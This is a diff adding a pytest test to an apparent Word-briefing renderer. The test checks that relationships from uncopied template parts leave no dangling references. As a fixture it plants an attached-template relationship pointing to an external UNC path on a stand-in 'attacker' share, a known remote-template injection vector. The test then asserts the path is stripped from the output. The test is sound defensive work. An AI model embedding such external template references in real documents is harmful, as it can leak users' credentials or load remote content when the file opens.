@@ -154,3 +154,30 @@ def test_a_template_declaring_entities_is_refused(tmp_path):
     settings = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><w:settings xmlns:w="x">&a;</w:settings>'
     issues = check_brand(copy_brand(tmp_path, parts={"word/settings.xml": settings}))
     assert [i.code for i in issues] == ["bad-brand"] and "DOCTYPE" in issues[0].message
+
+
+def test_relationships_of_template_parts_that_are_not_copied_leave_no_dangling_reference(tmp_path):
+    # Word saves a template's attached template (often on a network share) in settings.xml's own
+    # relationships and printer settings in the section; those parts are not copied, and a reference left
+    # behind makes Word call the briefing corrupt (and the network path would be fetched on opening)
+    template = load_brand("meridian").template
+    with zipfile.ZipFile(template) as package:
+        settings, document = package.read("word/settings.xml"), package.read("word/document.xml")
+    settings = settings.replace(b"<w:settings ", f'<w:settings xmlns:r="{OFFICE_RELS}" '.encode(), 1).replace(
+        b'<w:zoom w:percent="100"/>', b'<w:zoom w:percent="100"/><w:attachedTemplate r:id="rId1"/>')
+    settings_rels = (f'<Relationships xmlns="{NS["rel"]}"><Relationship Id="rId1" Type="{OFFICE_RELS}/'
+                     'attachedTemplate" Target="file:///\\\\attacker\\share\\Normal.dotm" TargetMode="External"/>'
+                     '</Relationships>')
+    document = document.replace(b"</w:sectPr>", b'<w:printerSettings r:id="rId77"/></w:sectPr>')
+    assert b"attachedTemplate" in settings and b"printerSettings" in document
+    brand = load_brand(copy_brand(tmp_path, document=document, parts={
+        "word/settings.xml": settings, "word/_rels/settings.xml.rels": settings_rels.encode()}))
+    data = render_docx(sample_briefing(), brand)
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        names = set(package.namelist())
+    for name in sorted(n for n in names if n.endswith(".xml") and "/_rels/" not in n):
+        used = set(part(data, name).xpath("//@r:*", namespaces={"r": OFFICE_RELS}))
+        rels_name = name.rsplit("/", 1)[0] + "/_rels/" + name.rsplit("/", 1)[1] + ".rels" if "/" in name else ""
+        known = {r.get("Id") for r in part(data, rels_name)} if rels_name in names else set()
+        assert used <= known, (name, used - known)
+    assert b"attacker" not in data
